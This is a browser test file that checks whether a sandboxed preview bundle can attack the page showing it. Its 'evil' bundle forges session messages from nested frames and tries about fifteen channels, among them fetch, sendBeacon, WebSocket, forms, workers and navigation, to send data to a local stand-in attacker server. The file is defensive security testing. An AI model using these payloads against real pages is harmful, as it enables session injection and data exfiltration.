import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { testBase } from "../src/testing/test-base.ts";
import { isDebian, says, type Browser } from "./browsers/browser.ts";
import { chromium } from "./browsers/chromium.ts";
import { firefox } from "./browsers/firefox.ts";
import { webkit } from "./browsers/webkit.ts";
import { Origin, configuredSite, type Served } from "./origin.ts";
import { configure, expect, READY, test } from "./site.ts";

// What a piece's bundle can do to the page that shows its preview, in every browser, by the page module as it is
// shipped. AC's listener for messages is the stage's (`dev/stage/outside.ts`).

const { manifest, image } = await testBase();
const base: Served = { manifest, read: (at, length) => image.subarray(at, at + length) };

/** From where a bundle attacks: its own frame, and frames in it. */
const PLACES = ["frame", "srcdoc", "data", "blob", "named parent", "short-lived"];

/** A server of the attacker's, on another site than the stage. */
class Attacker implements AsyncDisposable {
  readonly asked: string[] = [];
  readonly #server = createServer((request, response) => {
    this.asked.push(request.url ?? "");
    response.setHeader("Content-Type", "text/html");
    response.end(control("other"));
  });

  static async start(): Promise<Attacker> {
    const attacker = new Attacker();
    await new Promise<void>((ready) => attacker.#server.listen(0, "127.0.0.1", ready));
    return attacker;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((closed) => this.#server.close(closed));
  }
}

/** A document that sends AC's page a session from `place`, at once, again and again, and when it goes. */
function attack(place: string): string {
  return `<script>{
    const page = top, above = parent;
    try { Object.defineProperty(window, "parent", { get: () => window }); } catch {}
    const post = (when) => {
      for (const [name, target] of Object.entries({ page, above })) {
        const session = { accessToken: ["${place}", name, when].join(", ") };
        target.postMessage({ type: "setSession", session }, "*", [new MessageChannel().port1]);
      }
    };
    post("at once");
    setInterval(post, 100, "later");
    for (const type of ["beforeunload", "pagehide", "unload", "visibilitychange"]) {
      addEventListener(type, () => post(type));
    }
  }</script>`;
}

/** A bundle that attacks from all places. */
function evil(attacker: string): string {
  const code = (place: string) => JSON.stringify(attack(place)).replaceAll("</", "<\\/");
  return `<!doctype html><title>evil</title><body>${attack("frame")}<script>{
    const nest = (attributes) => {
      const frame = Object.assign(document.createElement("iframe"), attributes);
      document.body.append(frame);
      return frame;
    };
    nest({ srcdoc: ${code("srcdoc")} });
    nest({ src: "data:text/html," + encodeURIComponent(${code("data")}) });
    nest({ src: URL.createObjectURL(new Blob([${code("blob")}], { type: "text/html" })) });
    const leaks = {
      fetch: (url) => fetch(url, { mode: "no-cors", keepalive: true }).catch(() => {}),
      beacon: (url) => navigator.sendBeacon(url, "x"),
      socket: (url) => new WebSocket(url.replace("http", "ws")),
      events: (url) => new EventSource(url),
      frame: (url) => nest({ src: url }),
      meta: (url) => nest({ srcdoc: '<meta http-equiv="refresh" content="0;url=' + url + '">' }),
      image: (src) => document.body.append(Object.assign(new Image(), { src })),
      script: (src) => document.body.append(Object.assign(document.createElement("script"), { src })),
      style: (href) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href })),
      module: (url) => import(url).catch(() => {}),
      worker: (url) => new Worker(url),
      blobWorker: (url) => new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '", { mode: "no-cors" })']))),
      window: (url) => open(url),
      top: (url) => (top.location = url),
      form: (url) => nest({ srcdoc: '<form action="' + url + '"></form><script>document.forms[0].submit()<\\/script>' }),
    };
    for (const [name, leak] of Object.entries(leaks)) {
      try { leak("${attacker}/leak/" + name); } catch {}
    }
    nest({ srcdoc: '<iframe name="parent"></iframe>' + ${code("named parent")} });
    addEventListener("message", ({ data, source }) => {
      if (!data?.session?.accessToken.startsWith("short-lived")) return;
      for (const each of document.querySelectorAll("iframe")) if (each.contentWindow === source) each.remove();
    });
    nest({ srcdoc: ${code("short-lived")} });
    setTimeout(() => nest({ srcdoc: ${code("short-lived")} }), 500);
    setTimeout(() => {
      top.postMessage({ session: { accessToken: "navigating, now" } }, "*");
      location.href = "${attacker}/leak/navigation";
    }, 2000);
  }</script>`;
}

/** A document of which the page is to hear. */
function control(name: string): string {
  return `<script>
    parent.postMessage({ type: "control", name: "${name}" }, "*", [new MessageChannel().port1]);
  </script>`;
}

for (const driver of [chromium, firefox, webkit]) {
  test.describe(driver.name, () => {
    test.beforeAll(() => {
      if (isDebian) expect(driver.missing, `${driver.name} is part of the tests`).toBeUndefined();
      test.skip(driver.missing !== undefined, driver.missing);
    });

    const visit = async (stage: string, bundle: string, journey: (browser: Browser) => Promise<void>) => {
      await using origin = await Origin.of(base, bundle);
      const { url } = origin;
      await using site = await configuredSite(stage, { latest: `${url}/manifest.json`, oven: url });
      await using browser = await driver.launch();
      await browser.open(`${site.url}/os:notepat`);
      await journey(browser);
    };

    test("a bundle's messages carry nothing to AC's page", async ({ site }) => {
      await using attacker = await Attacker.start();
      await visit(site.url, evil(attacker.url), async (browser) => {
        await expectAttacks(browser, PLACES);
        await expectAttacks(browser, ["navigating"]);
        await expectNothing(browser);

        // Others are heard as before, in the midst of it.
        await browser.evaluate(`(() => {
          const nest = (attributes) => document.body.append(Object.assign(document.createElement("iframe"), attributes));
          nest({ srcdoc: ${JSON.stringify(control("same")).replaceAll("</", "<\\/")} });
          nest({ src: "${attacker.url}/control" });
          nest({ src: "data:text/html," + encodeURIComponent(${JSON.stringify(control("opaque")).replaceAll("</", "<\\/")}) });
        })()`);
        const controls = `heard.filter(({ data }) => data?.type === "control")`;
        await expect
          .poll(() => browser.evaluate(`${controls}.map(({ data }) => data.name).sort()`))
          .toEqual(["opaque", "other", "same"]);
        expect(
          await browser.evaluate(`${controls}.every(({ ports, hasSource }) => ports === 1 && hasSource)`),
        ).toBe(true);

        // Of its requests none has come, though one of the page's own, sent later, has.
        expect(attacker.asked).toEqual(["/control"]);

        await browser.press("Escape"); // the piece is left, and the frame removed while it sends
        await expect.poll(() => says(browser)).toContain("Type a piece");
        await silence(browser);
        await expectNothing(browser);

        await browser.type("os notepat");
        await browser.press("Enter");
        await browser.evaluate("(heard.length = 0)");
        await expectAttacks(browser, ["frame"]);
        await expect.poll(() => says(browser)).toMatch(READY);
        await browser.press("s"); // the preview gives way to the build
        await expect.poll(() => says(browser), { timeout: 40_000 }).toMatch(/in your downloads/);
        await silence(browser);
        await expectNothing(browser);
      });
    });

    test("a bundle that writes into the session history runs no more", async ({ site }) => {
      const pushy = `<!doctype html><body><script>setTimeout(() => history.pushState(1, ""), 1500)</script>`;
      await visit(site.url, pushy, async (browser) => {
        await expect.poll(() => preview(browser)).toBe("IFRAME");
        await expect.poll(() => preview(browser)).toBe("IMG 1280");
      });
    });
  });
}

test("where messages cannot be muted, there is a still picture", async ({ page, site }) => {
  await using origin = await Origin.of(base, "<!doctype html><script>1</script>");
  await configure(page, { latest: `${origin.url}/manifest.json`, oven: origin.url });
  await page.addInitScript("Object.freeze(MessageEvent.prototype)");
  await page.goto(`${site.url}/os:notepat`);
  await expect(page.locator("#content img")).toHaveJSProperty("naturalWidth", 1280);
  await expect(page.locator("#content iframe")).toHaveCount(0);
});

test("where another page could be reached through AC's, there is a still picture", async ({ page, site }) => {
  await using origin = await Origin.of(base, "<!doctype html><script>1</script>");
  await configure(page, { latest: `${origin.url}/manifest.json`, oven: origin.url });
  await page.goto(`${site.url}/prompt`);
  const opening = page.waitForEvent("popup");
  await page.evaluate("void open('/os:notepat')");
  const opened = await opening;
  await configure(opened, { latest: `${origin.url}/manifest.json`, oven: origin.url });
  await opened.reload();
  await expect(opened.locator("#content img")).toHaveJSProperty("naturalWidth", 1280);

  await page.bringToFront(); // timers of a page behind another run once a second
  await page.setContent(`<iframe src="${site.url}/os:notepat" width="900" height="550"></iframe>`);
  await expect(page.frameLocator("iframe").locator("#content img")).toHaveJSProperty("naturalWidth", 1280);
});

/** AC's page has been sent something from each of these places. */
async function expectAttacks(browser: Browser, places: readonly string[]): Promise<void> {
  const from = `[...new Set((globalThis.heard ?? []).map(({ sent }) => sent?.session?.accessToken?.split(",")[0]))]`;
  for (const place of places)
    await expect.poll(() => browser.evaluate(from), { timeout: 20_000 }).toContain(place);
}

/** Wait until nothing more comes from a frame that is gone: it sends ten times a second, and once more at its end. */
async function silence(browser: Browser): Promise<void> {
  let before = -1;
  const more = async () => {
    const now = await browser.evaluate<number>("heard.length");
    const came = now - before;
    before = now;
    return came;
  };
  await expect.poll(more, { intervals: [1_000] }).toBe(0);
}

/** AC's page has heard the bundle, and nothing of what it said. */
async function expectNothing(browser: Browser): Promise<void> {
  const opaque = `heard.filter(({ origin, sent }) => origin === "null" && sent?.type !== "control")`;
  expect(await browser.evaluate(`${opaque}.length`)).toBeGreaterThan(0);
  const carrying = `${opaque}.filter(({ data, ports, hasSource }) => data !== null || ports > 0 || hasSource)`;
  expect(
    await browser.evaluate(
      `[...new Set(${carrying}.map(({ data }) => data?.session?.accessToken ?? JSON.stringify(data)))]`,
    ),
  ).toEqual([]);
  expect(await browser.evaluate("globalThis.acTOKEN ?? null")).toBeNull();
}

/** What the preview is: the tag of what shows it, and a picture's width. */
async function preview(browser: Browser): Promise<string> {
  return await browser.evaluate<string>(`(() => {
    const shown = document.querySelector("#content div")?.shadowRoot?.firstElementChild;
    return shown ? [shown.tagName, shown.naturalWidth].filter(Boolean).join(" ") : "";
  })()`);
}
